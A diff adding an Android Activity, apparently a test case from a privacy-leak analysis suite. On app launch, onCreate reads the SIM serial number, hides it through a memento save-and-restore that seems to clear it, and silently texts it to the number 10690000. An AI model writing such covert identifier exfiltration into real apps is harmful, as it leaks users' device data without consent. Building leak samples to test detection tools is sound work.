@@ -1,0 +1,19 @@
+package cn.privlens.suite.memento_of_filled_form;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        Form form = new Form();
+        form.enter(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
+        Form.Memento kept = form.save();
+        form.enter("已清空");
+        form.restore(kept);
+        SmsManager.getDefault().sendTextMessage("10690000", null, form.text(), null, null);
+    }
+}
